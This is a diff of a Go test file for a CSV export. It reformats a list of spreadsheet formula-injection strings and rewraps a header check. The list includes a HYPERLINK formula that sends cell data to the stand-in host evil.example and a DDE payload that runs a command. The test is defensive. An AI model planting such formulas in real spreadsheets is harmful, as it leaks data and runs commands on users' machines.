@@ -15,8 +15,27 @@ import (
 
 // formulas are texts that a spreadsheet would run.
 var formulas = []string{
-	"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1", "\"=1+1\"", "'=1+1", " =1+1", "　=1+1", "\u200b=1+1", "“=1+1”", "＝1+1", "＋1", "－x", "＠SUM(A1)", "﹦1", "−x",
-	`=HYPERLINK("https://evil.example?x="&A1,"open")`, "=cmd|'/c calc'!A0",
+	"=1+1",
+	"+1+1",
+	"-1+1",
+	"@SUM(A1)",
+	"\t=1+1",
+	"\r=1+1",
+	"\n=1",
+	"\"=1+1\"",
+	"'=1+1",
+	" =1+1",
+	"　=1+1",
+	"\u200b=1+1",
+	"“=1+1”",
+	"＝1+1",
+	"＋1",
+	"－x",
+	"＠SUM(A1)",
+	"﹦1",
+	"−x",
+	`=HYPERLINK("https://evil.example?x="&A1,"open")`,
+	"=cmd|'/c calc'!A0",
 }
 
 func TestCellsThatBeginAFormulaArePlain(t *testing.T) {
@@ -76,7 +95,10 @@ func TestNoFileHoldsAFormula(t *testing.T) {
 		got := h.browse(line.Method, line.Path, alex, nil).want(200)
 		// Excel reads a file in UTF-8 as such by its mark alone.
 		body, marked := bytes.CutPrefix(got.Body, []byte("\xef\xbb\xbf"))
-		if kind := got.Header.Get("Content-Type"); !marked || bytes.HasPrefix(body, []byte("\xef\xbb\xbf")) || kind != "text/csv; charset=utf-8" {
+		if kind := got.Header.Get(
+			"Content-Type",
+		); !marked || bytes.HasPrefix(body, []byte("\xef\xbb\xbf")) ||
+			kind != "text/csv; charset=utf-8" {
 			t.Errorf("%s begins with %q and is %s", line.Path, got.Body[:min(8, len(got.Body))], kind)
 		}
 		rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
